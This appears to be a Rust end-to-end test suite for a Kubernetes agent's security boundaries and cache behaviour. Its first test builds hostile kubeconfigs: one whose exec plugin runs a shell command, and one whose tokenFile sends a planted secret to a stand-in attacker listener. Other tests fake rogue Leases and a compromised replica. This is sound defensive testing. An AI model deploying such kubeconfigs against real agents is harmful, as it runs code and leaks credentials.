//! The agent's trust boundaries and cache correctness against the real control plane:
//! kubeconfigs that would run code or send the agent's files away are refused; Leases
//! that are not live replicas of the shard do not join it; a resume point from the
//! future is not trusted; a change of filters or kinds ends with the hub's cache equal to
//! what the new spec selects, also across an agent restart; operation results are
//! stripped like streamed objects; the accounts of a cluster share its connection; and
//! many large Kubernetes API request bodies at once cost the agent at most its budget.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{Namespace, Secret};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::MicroTime;
use kube::api::{Api, PostParams};
use nix::sys::signal::Signal;
use scale_agent_crds::{AccountConfig, KubeconfigFeature};
use scale_agent_e2e::converge::{configmaps, converge, create_namespace, put_cm, wait_state};
use scale_agent_e2e::metrics::{metric, scrape};
use scale_agent_e2e::scenario::*;
use scale_agent_e2e::{Env, runner, wait};
use scale_agent_proto::v1 as pb;
use serde_json::{Value, json};

const TARGETS: [&str; 3] = ["cluster-1", "cluster-2", "cluster-3"];

fn main() {
    runner::main(
        &TARGETS,
        vec![
            ("kubeconfigs_that_run_code_or_send_files_do_no_harm", |e| {
                Box::pin(kubeconfig_attacks(e))
            }),
            ("leases_of_no_live_replica_do_not_join_the_shard", |e| {
                Box::pin(ghost_leases(e))
            }),
            (
                "a_resume_point_from_the_future_falls_back_to_a_relist",
                |e| Box::pin(future_resume_point(e)),
            ),
            (
                "filter_and_kind_changes_leave_the_cache_equal_to_the_new_spec",
                |e| Box::pin(filter_changes(e)),
            ),
            (
                "operation_results_are_stripped_like_streamed_objects",
                |e| Box::pin(stripped_results(e)),
            ),
            ("accounts_of_a_cluster_share_its_connection", |e| {
                Box::pin(accounts_share_a_connection(e))
            }),
            (
                "many_large_request_bodies_stay_within_the_agents_budget",
                |e| Box::pin(large_request_bodies(e)),
            ),
        ],
    );
}

const FAST_LEASES: &[&str] = &["--lease-renew-interval=500ms", "--lease-duration=4s"];

// ---------- kubeconfigs ----------

/// A kubeconfig for `server` whose user is `user` (YAML of the user's fields).
fn hostile_kubeconfig(server: &str, user: Value) -> String {
    let doc = json!({
        "apiVersion": "v1", "kind": "Config",
        "clusters": [{ "name": "c", "cluster": { "server": server } }],
        "users": [{ "name": "u", "user": user }],
        "contexts": [{ "name": "x", "context": { "cluster": "c", "user": "u" } }],
        "current-context": "x",
    });
    serde_yaml::to_string(&doc).unwrap_or_default()
}

/// A plain-TCP listener standing in for the attacker's server: records every byte sent
/// to it (an agent following a `tokenFile` kubeconfig would send the file's content as
/// a bearer token).
fn attacker_listener() -> anyhow::Result<(String, Arc<std::sync::Mutex<Vec<u8>>>)> {
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let addr = listener.local_addr()?;
    listener.set_nonblocking(false)?;
    let got = Arc::new(std::sync::Mutex::new(Vec::new()));
    let sink = got.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let _ = conn.set_read_timeout(Some(Duration::from_millis(500)));
            let mut conn = conn;
            let mut buf = [0u8; 4096];
            while let Ok(n) = conn.read(&mut buf) {
                if n == 0 {
                    break;
                }
                if let Ok(mut g) = sink.lock() {
                    g.extend_from_slice(&buf[..n]);
                }
            }
        }
    });
    Ok((format!("http://{addr}"), got))
}

async fn kubeconfig_attacks(env: Arc<Env>) -> anyhow::Result<()> {
    let s = scenario(&env, "kcattack", "60s").await?;
    let marker = s.dir.path().join("exec-ran");
    let secret_file = s.dir.path().join("agent-secret-token");
    std::fs::write(&secret_file, "s3cr3t-agent-token-do-not-send")?;
    let (attacker, received) = attacker_listener()?;

    let exec = hostile_kubeconfig(
        &env.cp.targets[0].server,
        json!({ "exec": {
            "apiVersion": "client.authentication.k8s.io/v1",
            "command": "/bin/sh",
            "args": ["-c", format!("touch {}", marker.display())],
            "interactiveMode": "Never",
        }}),
    );
    let token_file = hostile_kubeconfig(
        &attacker,
        json!({ "tokenFile": secret_file.display().to_string() }),
    );
    let mut kcs = kubeconfigs(&env, &[("kc-good", "cluster-1")])?;
    kcs.insert("kc-exec.kubeconfig".into(), exec);
    kcs.insert("kc-tokenfile.kubeconfig".into(), token_file);
    let mut cfg = config(
        &s,
        "kcattack",
        ["kc-good", "kc-exec", "kc-tokenfile"]
            .iter()
            .map(|a| account(a, &s.ns))
            .collect(),
    );
    // The attacker's server speaks plain HTTP on loopback: both allowed here, so what
    // refuses the tokenFile kubeconfig is its tokenFile (plain HTTP is refused by default
    // too: crds/src/kubeconfig.rs, e2e/tests/operator.rs).
    cfg.allow_kubeconfig = scale_agent_crds::KubeconfigAllow(vec![
        scale_agent_e2e::kubeconfig::NEEDS,
        KubeconfigFeature::Http,
    ]);
    let agent = start_agent(&env, &s, "kcattack-0", &cfg, &kcs, FAST_LEASES)?;
    // The good account streams: the agent has read every kubeconfig by now.
    wait_state(&s.hub, "kc-good", "Connected", Duration::from_secs(60))
        .await
        .with_context(|| agent_log(&agent))?;
    tokio::time::sleep(Duration::from_secs(3)).await;
    ensure!(
        !marker.exists(),
        "the exec kubeconfig ran a program in the agent"
    );
    let sent = received.lock().map(|g| g.clone()).unwrap_or_default();
    ensure!(
        !String::from_utf8_lossy(&sent).contains("s3cr3t-agent-token"),
        "the tokenFile kubeconfig sent the agent's file to the attacker's server"
    );
    ensure!(
        sent.is_empty(),
        "the agent connected to the attacker's server at all ({} bytes)",
        sent.len()
    );
    let log = std::fs::read_to_string(agent.proc.log()).unwrap_or_default();
    for field in ["exec", "tokenFile"] {
        ensure!(
            log.contains(&format!("sets {field}")) && log.contains("--allow-kubeconfig="),
            "no refusal naming {field} in the agent's log:\n{}",
            agent_log(&agent)
        );
    }
    ensure!(
        wait_state(&s.hub, "kc-exec", "Connected", Duration::from_millis(100))
            .await
            .is_err(),
        "the refused account registered"
    );

    // The same kubeconfigs once the operator allows exec and files: the harm happens,
    // so the refusal above is what prevented it.
    cfg.allow_kubeconfig = scale_agent_crds::KubeconfigAllow(vec![
        KubeconfigFeature::Exec,
        KubeconfigFeature::Files,
        KubeconfigFeature::Http,
        scale_agent_e2e::kubeconfig::NEEDS,
    ]);
    agent.update(&cfg, &kcs)?;
    wait::until(
        "the allowed exec plugin to run",
        Duration::from_secs(30),
        || async { marker.exists().then_some(()) },
    )
    .await
    .with_context(|| agent_log(&agent))?;
    wait::until(
        "the allowed tokenFile to reach its server",
        Duration::from_secs(30),
        || async {
            let sent = received.lock().map(|g| g.clone()).unwrap_or_default();
            String::from_utf8_lossy(&sent)
                .contains("s3cr3t-agent-token")
                .then_some(())
        },
    )
    .await
    .with_context(|| agent_log(&agent))?;
    eprintln!(
        "kubeconfigs: refused by default; with --allow-kubeconfig=exec,files both took effect"
    );
    Ok(())
}

// ---------- membership ----------

/// Creates a Lease labelled for `shard`, held by `holder`, renewed now for an hour.
async fn ghost_lease(
    api: &Api<Lease>,
    shard: &str,
    name: &str,
    holder: &str,
) -> anyhow::Result<()> {
    let lease: Lease = serde_json::from_value(json!({
        "metadata": { "name": name, "labels": { "scaleagent.dev/shard": shard } },
        "spec": {
            "holderIdentity": holder,
            "leaseDurationSeconds": 3600,
            "renewTime": MicroTime(k8s_openapi::jiff::Timestamp::now()),
        }
    }))?;
    api.create(&PostParams::default(), &lease).await?;
    Ok(())
}

async fn ghost_leases(env: Arc<Env>) -> anyhow::Result<()> {
    let s = scenario(&env, "ghost", "60s").await?;
    let names = ["ghost-a", "ghost-b", "ghost-c"];
    let cfg = config(
        &s,
        "ghost",
        names.iter().map(|n| account(n, &s.ns)).collect(),
    );
    let kcs = kubeconfigs(
        &env,
        &[
            ("ghost-a", "cluster-1"),
            ("ghost-b", "cluster-2"),
            ("ghost-c", "cluster-3"),
        ],
    )?;
    let agent = start_agent(&env, &s, "ghost-0", &cfg, &kcs, FAST_LEASES)?;
    for n in names {
        wait_state(&s.hub, n, "Connected", Duration::from_secs(60))
            .await
            .with_context(|| agent_log(&agent))?;
    }
    // Five ghosts: four with made-up names, one with a name chosen so that rendezvous
    // hashing gives it ghost-c.
    let mut chosen = String::new();
    for i in 0..10_000 {
        let candidate = format!("chosen-{i}");
        let members = vec!["ghost-0".to_string(), candidate.clone()];
        if scale_agent::assignment::owner("ghost-c", &members) == Some(candidate.as_str()) {
            chosen = candidate;
            break;
        }
    }
    ensure!(!chosen.is_empty(), "no name wins ghost-c");
    let leases: Api<Lease> = Api::namespaced(env.client().await?, &s.ns);
    for i in 0..4 {
        let holder = format!("ghost-{}", i + 1);
        ghost_lease(&leases, "ghost", &format!("scale-agent-{holder}"), &holder).await?;
    }
    ghost_lease(&leases, "ghost", &format!("scale-agent-{chosen}"), &chosen).await?;

    // For 8 s (many renewals), every account stays on the real replica, which counts
    // only itself as a member.
    let until = Instant::now() + Duration::from_secs(8);
    while Instant::now() < until {
        for n in names {
            let a = scale_agent_e2e::converge::account_state(&s.hub, n).await;
            let ok = a
                .as_ref()
                .is_some_and(|a| a["state"] == "Connected" && a["replica"] == "ghost-0");
            ensure!(
                ok,
                "{n} left the real replica: {a:?}\n{}",
                agent_log(&agent)
            );
        }
        let members = metric(&agent.admin, "scale_agent_members").await;
        ensure!(
            members == 1,
            "members: {members} (ghosts joined)\n{}",
            agent_log(&agent)
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    // And the account the chosen ghost would have taken still streams.
    let c3 = configmaps(target(&env, "cluster-3")?, &s.ns).await?;
    put_cm(&c3, "after-the-ghosts", "1").await?;
    converge(&s.hub, "ghost-c", &c3, &s.ns, Duration::from_secs(30)).await?;
    let log = std::fs::read_to_string(agent.proc.log()).unwrap_or_default();
    ensure!(
        log.contains("not a live replica") && log.contains(&chosen),
        "the ignored Leases are not logged:\n{}",
        agent_log(&agent)
    );
    Ok(())
}

// ---------- resume points ----------

/// A client of the hub's gRPC API with the shard's identity (what a compromised replica
/// of the shard could do): registers `account` and moves its resume point far ahead.
async fn plant_future_resume_point(
    hub_grpc: &str,
    ns: &str,
    shard: &str,
    account: pb::Account,
) -> anyhow::Result<()> {
    use pb::agent_frame::Frame;
    let channel = tonic::transport::Channel::from_shared(format!("http://{hub_grpc}"))?
        .connect()
        .await?;
    let mut client = pb::agent_hub_client::AgentHubClient::new(channel);
    let (tx, rx) = tokio::sync::mpsc::channel(16);
    let send = |f: Frame| pb::AgentFrame { frame: Some(f) };
    tx.send(send(Frame::Hello(pb::Hello {
        protocol_version: scale_agent_proto::PROTOCOL_VERSION,
        shard: Some(pb::ShardRef {
            namespace: ns.into(),
            name: shard.into(),
        }),
        replica_id: "rogue-0".into(),
        agent_version: "rogue".into(),
        capabilities: vec!["watch-progress".into()],
    })))
    .await?;
    let mut inbound = client
        .connect(tokio_stream::wrappers::ReceiverStream::new(rx))
        .await?
        .into_inner();
    let name = account.name.clone();
    tx.send(send(Frame::Register(pb::Register {
        accounts: vec![account],
    })))
    .await?;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        ensure!(Instant::now() < deadline, "no RegisterResult for the rogue");
        let Some(frame) =
            tokio::time::timeout(Duration::from_secs(20), inbound.message()).await??
        else {
            anyhow::bail!("the hub closed the rogue's stream");
        };
        if let Some(pb::hub_frame::Frame::RegisterResult(r)) = frame.frame {
            let r = r
                .accounts
                .into_iter()
                .find(|a| a.name == name)
                .context("result")?;
            ensure!(r.accepted, "rogue registration refused: {}", r.message);
            break;
        }
    }
    tx.send(send(Frame::WatchProgress(pb::WatchProgress {
        account: name,
        kind: Some(pb::GroupVersionKind {
            group: String::new(),
            version: "v1".into(),
            kind: "ConfigMap".into(),
        }),
        resource_version: "999999999".into(),
    })))
    .await?;
    tokio::time::sleep(Duration::from_secs(1)).await;
    Ok(())
}

async fn future_resume_point(env: Arc<Env>) -> anyhow::Result<()> {
    let s = scenario(&env, "future", "300s").await?;
    let cluster = target(&env, "cluster-2")?;
    let cms = configmaps(cluster, &s.ns).await?;
    put_cm(&cms, "before", "1").await?;
    let mut agent = stream_one(&env, &s, "future", "future-a", "cluster-2").await?;
    converge(&s.hub, "future-a", &cms, &s.ns, Duration::from_secs(30)).await?;
    agent.proc.signal(Signal::SIGKILL);
    agent.proc.stop(Duration::from_secs(1));
    wait_state(&s.hub, "future-a", "Disconnected", Duration::from_secs(30)).await?;

    let kube_system = Api::<Namespace>::all(cluster.client().await?)
        .get("kube-system")
        .await?;
    plant_future_resume_point(
        &s.hub.grpc,
        &s.ns,
        "future",
        pb::Account {
            name: "future-a".into(),
            cluster_id: kube_system.metadata.uid.unwrap_or_default(),
            server_url: cluster.server.clone(),
            kubernetes_version: String::new(),
            scope: None,
        },
    )
    .await?;
    // Changes while the real agent is away: only a relist brings them.
    put_cm(&cms, "while-away", "2").await?;
    put_cm(&cms, "before", "changed").await?;

    let cfg = config(&s, "future", vec![account("future-a", &s.ns)]);
    let kcs = kubeconfigs(&env, &[("future-a", "cluster-2")])?;
    let agent = start_agent(&env, &s, "future-0", &cfg, &kcs, FAST_LEASES)?;
    converge(&s.hub, "future-a", &cms, &s.ns, Duration::from_secs(60))
        .await
        .with_context(|| agent_log(&agent))?;
    let suspicious = metric(
        &agent.admin,
        "scale_agent_relists_total{cause=\"suspicious_resume\"}",
    )
    .await;
    ensure!(
        suspicious == 1,
        "suspicious_resume relists: {suspicious}\n{}",
        agent_log(&agent)
    );
    // Changes go on reaching the hub (the watch runs from the list, not from the future).
    put_cm(&cms, "after", "3").await?;
    converge(&s.hub, "future-a", &cms, &s.ns, Duration::from_secs(30)).await?;
    Ok(())
}

// ---------- filters ----------

/// The names of `kind` the hub caches for `account` (in `ns`, when given).
async fn hub_names(
    s: &scale_agent_e2e::scenario::Scenario,
    account: &str,
    kind: &str,
    ns: Option<&str>,
) -> BTreeSet<String> {
    let path = match ns {
        Some(ns) => format!("/v1/accounts/{account}/objects?kind={kind}&namespace={ns}"),
        None => format!("/v1/accounts/{account}/objects?kind={kind}"),
    };
    let Ok((200, body)) = s.hub.get(&path).await else {
        return BTreeSet::new();
    };
    body.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|o| o["name"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// Waits until the hub's cache of `account` has exactly `want` ConfigMaps in each
/// namespace and the Namespaces `namespaces` among `watched_ns`.
async fn wait_cache(
    s: &scale_agent_e2e::scenario::Scenario,
    account: &str,
    want: &BTreeMap<String, BTreeSet<String>>,
    watched_ns: &[&str],
    namespaces: &BTreeSet<String>,
    what: &str,
) -> anyhow::Result<Duration> {
    let start = Instant::now();
    wait::until(what, Duration::from_secs(45), || async {
        for (ns, names) in want {
            if hub_names(s, account, "ConfigMap", Some(ns)).await != *names {
                return None;
            }
        }
        let cached: BTreeSet<String> = hub_names(s, account, "Namespace", None)
            .await
            .into_iter()
            .filter(|n| watched_ns.contains(&n.as_str()))
            .collect();
        (cached == *namespaces).then_some(())
    })
    .await?;
    Ok(start.elapsed())
}

async fn filter_changes(env: Arc<Env>) -> anyhow::Result<()> {
    let s = scenario(&env, "filters", "300s").await?;
    let a = s.ns.clone();
    let b = format!("{}-b", s.ns);
    let cluster = target(&env, "cluster-1")?;
    create_namespace(cluster, &b).await?;
    let (cms_a, cms_b) = (
        configmaps(cluster, &a).await?,
        configmaps(cluster, &b).await?,
    );
    for i in 0..3 {
        put_cm(&cms_a, &format!("a-{i}"), "1").await?;
        put_cm(&cms_b, &format!("b-{i}"), "1").await?;
    }
    let mut base = account("filters-a", &a);
    base.scope.namespaces = vec![];
    base.scope.kinds = vec!["ConfigMap".into(), "Namespace".into()];
    let with = |f: &dyn Fn(&mut AccountConfig)| {
        let mut acc = base.clone();
        f(&mut acc);
        config(&s, "filters", vec![acc])
    };
    let kcs = kubeconfigs(&env, &[("filters-a", "cluster-1")])?;
    let watched = [a.as_str(), b.as_str()];
    // Target clusters run no controllers: the namespaces hold only the test's ConfigMaps.
    let names =
        |prefix: &str| -> BTreeSet<String> { (0..3).map(|i| format!("{prefix}-{i}")).collect() };
    let everything = BTreeMap::from([(a.clone(), names("a")), (b.clone(), names("b"))]);
    let both: BTreeSet<String> = watched.iter().map(|s| s.to_string()).collect();

    let mut agent = start_agent(&env, &s, "filters-0", &with(&|_| {}), &kcs, FAST_LEASES)?;
    wait_cache(
        &s,
        "filters-a",
        &everything,
        &watched,
        &both,
        "both namespaces cached",
    )
    .await
    .with_context(|| agent_log(&agent))?;

    // omitNamespaces added: b's ConfigMaps and the Namespace b leave the cache.
    let omit_b = with(&|acc| acc.scope.omit_namespaces = vec![b.clone()]);
    agent.update(&omit_b, &kcs)?;
    let only_a = BTreeMap::from([(a.clone(), names("a")), (b.clone(), BTreeSet::new())]);
    let took = wait_cache(
        &s,
        "filters-a",
        &only_a,
        &watched,
        &BTreeSet::from([a.clone()]),
        "namespace b dropped after omitNamespaces",
    )
    .await
    .with_context(|| agent_log(&agent))?;
    eprintln!("filters: omitNamespaces added, cache equal in {took:?}");

    // While omitted, b changes: removing the filter brings b back as it is now.
    put_cm(&cms_b, "b-new", "1").await?;
    agent.update(&with(&|_| {}), &kcs)?;
    let mut back = everything.clone();
    back.entry(b.clone()).or_default().insert("b-new".into());
    let took = wait_cache(
        &s,
        "filters-a",
        &back,
        &watched,
        &both,
        "namespace b back after omitNamespaces was removed",
    )
    .await
    .with_context(|| agent_log(&agent))?;
    eprintln!("filters: omitNamespaces removed, cache equal in {took:?}");

    // ConfigMap removed from kinds: every ConfigMap leaves the cache.
    let no_cms = with(&|acc| acc.scope.kinds = vec!["Namespace".into()]);
    agent.update(&no_cms, &kcs)?;
    let none = BTreeMap::from([(a.clone(), BTreeSet::new()), (b.clone(), BTreeSet::new())]);
    let took = wait_cache(
        &s,
        "filters-a",
        &none,
        &watched,
        &both,
        "ConfigMaps dropped after the kind was removed",
    )
    .await
    .with_context(|| agent_log(&agent))?;
    eprintln!("filters: kind removed, cache equal in {took:?}");
    let text = scrape(&agent.admin).await?;
    for cause in ["selection_changed", "kind_removed"] {
        let series = format!("scale_agent_relists_total{{cause=\"{cause}\"}}");
        ensure!(
            scale_agent_e2e::metrics::sample(&text, &series).unwrap_or(0.0) >= 1.0,
            "{series} not counted:\n{text}"
        );
    }

    // The filter changes while the agent is down: the next one starts from the hub's
    // resume points, listed with the old filter, and must not trust them.
    agent.proc.signal(Signal::SIGKILL);
    agent.proc.stop(Duration::from_secs(1));
    put_cm(&cms_a, "a-new", "1").await?;
    let mut cfg = with(&|acc| acc.scope.omit_namespaces = vec![b.clone()]);
    cfg.accounts[0].scope.kinds = vec!["ConfigMap".into(), "Namespace".into()];
    let agent = start_agent(&env, &s, "filters-1", &cfg, &kcs, FAST_LEASES)?;
    let mut want = only_a.clone();
    want.entry(a.clone()).or_default().insert("a-new".into());
    let took = wait_cache(
        &s,
        "filters-a",
        &want,
        &watched,
        &BTreeSet::from([a.clone()]),
        "a restarted agent with another filter",
    )
    .await
    .with_context(|| agent_log(&agent))?;
    eprintln!("filters: changed while the agent was down, cache equal {took:?} after it came back");
    Ok(())
}

// ---------- operations ----------

async fn stripped_results(env: Arc<Env>) -> anyhow::Result<()> {
    let s = scenario(&env, "stripops", "60s").await?;
    let _agent = stream_one(&env, &s, "stripops", "stripops-a", "cluster-3").await?;
    let secrets: Api<Secret> = Api::namespaced(target(&env, "cluster-3")?.client().await?, &s.ns);
    let secret: Secret = serde_json::from_value(json!({
        "metadata": { "name": "db", "annotations": {
            "kubectl.kubernetes.io/last-applied-configuration": "{\"data\":{\"password\":\"aHVudGVyMg==\"}}" } },
        "data": { "password": "aHVudGVyMg==" },
    }))?;
    secrets.create(&PostParams::default(), &secret).await?;
    let path = "/v1/accounts/stripops-a/operations";
    let (code, body) = s
        .hub
        .post(
            path,
            &json!({ "type": "get", "kind": "Secret", "namespace": s.ns, "name": "db" }),
        )
        .await?;
    ensure!(code == 200, "get: {code} {body}");
    let result = &body["result"];
    ensure!(result["metadata"]["name"] == "db", "no object in {body}");
    let text = result.to_string();
    ensure!(
        !text.contains("aHVudGVyMg=="),
        "the Secret's data left the cluster: {text}"
    );
    ensure!(
        result["metadata"].get("managedFields").is_none(),
        "managedFields: {text}"
    );
    // A write's answer too.
    let manifest = json!({ "apiVersion": "v1", "kind": "Secret",
        "metadata": { "name": "api", "namespace": s.ns }, "stringData": { "token": "t0ps3cret" } });
    let (code, body) = s
        .hub
        .post(path, &json!({ "type": "apply", "manifest": manifest }))
        .await?;
    ensure!(code == 200, "apply: {code} {body}");
    let text = body["result"].to_string();
    ensure!(
        !text.contains("dDBwczNjcmV0")
            && !text.contains("t0ps3cret")
            && !text.contains("managedFields"),
        "apply's answer carries the Secret or managedFields: {text}"
    );
    Ok(())
}

// ---------- connections ----------

/// The inodes of the sockets process `pid` holds.
fn socket_inodes(pid: u32) -> BTreeSet<u64> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|entries| {
            entries
                .flatten()
                .filter_map(|e| std::fs::read_link(e.path()).ok())
                .filter_map(|l| {
                    l.to_string_lossy()
                        .strip_prefix("socket:[")
                        .and_then(|r| r.strip_suffix(']'))
                        .and_then(|n| n.parse().ok())
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Established TCP connections of `pid` by remote port.
fn connections_by_port(pid: u32) -> BTreeMap<u16, usize> {
    let inodes = socket_inodes(pid);
    let mut by_port = BTreeMap::new();
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        let Ok(text) = std::fs::read_to_string(table) else {
            continue;
        };
        for line in text.lines().skip(1) {
            let cols: Vec<&str> = line.split_whitespace().collect();
            let (Some(remote), Some(state), Some(inode)) = (cols.get(2), cols.get(3), cols.get(9))
            else {
                continue;
            };
            let established = *state == "01";
            let ours = inode.parse::<u64>().is_ok_and(|i| inodes.contains(&i));
            let port = remote
                .rsplit_once(':')
                .and_then(|(_, p)| u16::from_str_radix(p, 16).ok());
            if let (true, true, Some(port)) = (established, ours, port) {
                *by_port.entry(port).or_insert(0) += 1;
            }
        }
    }
    by_port
}

fn port_of(server: &str) -> Option<u16> {
    server
        .rsplit_once(':')?
        .1
        .trim_end_matches('/')
        .parse()
        .ok()
}

/// Accounts of one cluster with the same credentials share HTTP/2 connections for their
/// watches: 8 accounts × (15 kinds + 1) = 128 streams fit in two connections of the API
/// server's 100 streams each (before: one connection or more per account).
async fn accounts_share_a_connection(env: Arc<Env>) -> anyhow::Result<()> {
    const PER_CLUSTER: usize = 8;
    let s = scenario(&env, "conns", "60s").await?;
    let mut pairs = Vec::new();
    for c in TARGETS {
        for i in 0..PER_CLUSTER {
            pairs.push((format!("conns-{c}-{i}"), c));
        }
    }
    // Every account streams the default kinds of the test's namespace: many watches each.
    let accounts: Vec<AccountConfig> = pairs
        .iter()
        .map(|(n, _)| {
            let mut a = account(n, &s.ns);
            a.scope.kinds = vec![];
            a
        })
        .collect();
    let cfg = config(&s, "conns", accounts);
    let refs: Vec<(&str, &str)> = pairs.iter().map(|(n, c)| (n.as_str(), *c)).collect();
    let kcs = kubeconfigs(&env, &refs)?;
    let agent = start_agent(&env, &s, "conns-0", &cfg, &kcs, FAST_LEASES)?;
    let started = Instant::now();
    let total = pairs.len() as u64;
    wait::until(
        "every account streaming and synced",
        Duration::from_secs(180),
        || async {
            if metric(&agent.admin, "scale_agent_accounts_streaming").await != total {
                return None;
            }
            agent.is_ready().await.then_some(())
        },
    )
    .await
    .with_context(|| agent_log(&agent))?;
    let ready = started.elapsed();
    tokio::time::sleep(Duration::from_secs(3)).await;
    let pid = agent.proc.pid();
    let by_port = connections_by_port(pid);
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0);
    let rss = scale_agent_e2e::process::rss_kib(pid);
    let watches = metric(&agent.admin, "scale_agent_accounts_streaming").await;
    eprintln!(
        "connections: {} accounts ({PER_CLUSTER} per cluster, default kinds), ready in {ready:?}; agent fds {fds}, RSS {} MiB; connections by API server port {by_port:?}; streaming {watches}",
        pairs.len(),
        rss / 1024
    );
    for c in TARGETS {
        let cluster = target(&env, c)?;
        let port = port_of(&cluster.server).context("server port")?;
        let n = by_port.get(&port).copied().unwrap_or(0);
        ensure!(
            n <= 2,
            "{c}: {n} connections for {PER_CLUSTER} accounts of the same credentials (more than the two that carry their {PER_CLUSTER} × 16 streams)"
        );
        ensure!(n >= 1, "{c}: no connection at all? {by_port:?}");
    }
    Ok(())
}

// ---------- request bodies ----------

/// The agent's budget of request bodies per hub session (`--max-held-request-mib`'s
/// default).
const HELD_REQUEST_MIB: u64 = 64;
/// Bodies sent at once, and each one's size: far more than the budget together.
const BODIES: usize = 48;
const BODY_MIB: usize = 15;

/// 48 ConfigMaps of 15 MiB written at once through the hub's Kubernetes API, whose own
/// bounds are raised so that all of them reach the agent (as several tokens, or several
/// hub replicas, would make them): each gets the API server's 413 (too large for it)
/// or the agent's 429 naming its budget, never anything else; the agent holds at most
/// its budget of bodies (`scale_agent_kube_api_request_bytes_held`), and its memory
/// grows by far less than the 720 MiB sent (before: every body held whole, 32 → 625 MB).
async fn large_request_bodies(env: Arc<Env>) -> anyhow::Result<()> {
    const TOKEN: &str = "e2e-large-bodies-token-0123456789";
    let port = scale_agent_e2e::ports::free_port()?;
    let dir = tempfile::tempdir()?;
    let tokens = dir.path().join("tokens");
    std::fs::write(&tokens, format!("{TOKEN} *\n"))?;
    let hub_args = vec![
        format!("--kube-api-addr=127.0.0.1:{port}"),
        format!("--kube-api-tokens-file={}", tokens.display()),
        "--kube-api-max-held-mib-per-token=4096".to_owned(),
        "--kube-api-max-held-mib=4096".to_owned(),
    ];
    let s = scale_agent_e2e::scenario::scenario_with(&env, "bodies", "60s", None, hub_args).await?;
    let name = "bodies-1";
    let cfg = config(&s, "bodies", vec![account(name, &s.ns)]);
    let kcs = kubeconfigs(&env, &[(name, TARGETS[0])])?;
    let agent = start_agent(&env, &s, "bodies-0", &cfg, &kcs, FAST_LEASES)?;
    wait_state(&s.hub, name, "Connected", Duration::from_secs(60))
        .await
        .with_context(|| agent_log(&agent))?;
    let pid = agent.proc.pid();
    let before = scale_agent_e2e::process::rss_kib(pid);

    // What the agent holds, sampled while the bodies go through.
    let sampling = Arc::new(std::sync::atomic::AtomicBool::new(true));
    let sampler = {
        let (admin, sampling) = (agent.admin.clone(), Arc::clone(&sampling));
        tokio::spawn(async move {
            let (mut held, mut rss) = (0u64, 0u64);
            while sampling.load(std::sync::atomic::Ordering::Relaxed) {
                held = held.max(metric(&admin, "scale_agent_kube_api_request_bytes_held").await);
                rss = rss.max(scale_agent_e2e::process::rss_kib(pid));
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            (held, rss)
        })
    };
    let body = json!({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"generateName": "large-"},
        "data": {"blob": "x".repeat(BODY_MIB << 20)},
    })
    .to_string();
    let url = format!(
        "http://127.0.0.1:{port}/accounts/{name}/api/v1/namespaces/{}/configmaps",
        s.ns
    );
    let client = reqwest::Client::new();
    let answers = futures::future::join_all((0..BODIES).map(|_| {
        client
            .post(&url)
            .bearer_auth(TOKEN)
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
    }))
    .await;
    let mut statuses = BTreeMap::<u16, usize>::new();
    for answer in answers {
        let answer = answer?;
        let status = answer.status().as_u16();
        let text = answer.text().await?;
        *statuses.entry(status).or_default() += 1;
        match status {
            413 => {}
            429 => ensure!(
                text.contains("--max-held-request-mib"),
                "a 429 that does not say which limit: {text}"
            ),
            _ => anyhow::bail!("a {BODY_MIB} MiB body answered {status}: {text}"),
        }
    }
    sampling.store(false, std::sync::atomic::Ordering::Relaxed);
    let (held, peak) = sampler.await?;
    let grew_mib = peak.saturating_sub(before) / 1024;
    eprintln!(
        "bodies: {BODIES} × {BODY_MIB} MiB at once through the hub: answers {statuses:?}; agent held at most {} MiB of bodies (budget {HELD_REQUEST_MIB} MiB), RSS {} → {} MiB at its peak",
        held >> 20,
        before / 1024,
        peak / 1024
    );
    // The budget, each admitted body's copy put together for the cluster, the frames
    // of refused bodies decoded before they are dropped, and what the allocator keeps
    // of freed chunks (measured: 195-239 MiB on a 64 MiB budget, on a shared 2-core
    // machine); far from the 720 MiB sent, which the agent held whole before (it grew
    // 643 MiB).
    ensure!(
        grew_mib < 5 * HELD_REQUEST_MIB,
        "the agent grew by {grew_mib} MiB for {BODIES} bodies of {BODY_MIB} MiB (budget {HELD_REQUEST_MIB} MiB)"
    );
    ensure!(
        held <= HELD_REQUEST_MIB << 20,
        "the agent held {} MiB of request bodies, past its budget of {HELD_REQUEST_MIB} MiB",
        held >> 20
    );
    // Still carrying requests.
    let listed = client
        .get(&url)
        .bearer_auth(TOKEN)
        .send()
        .await?
        .status()
        .as_u16();
    ensure!(listed == 200, "a list after the bodies answered {listed}");
    Ok(())
}
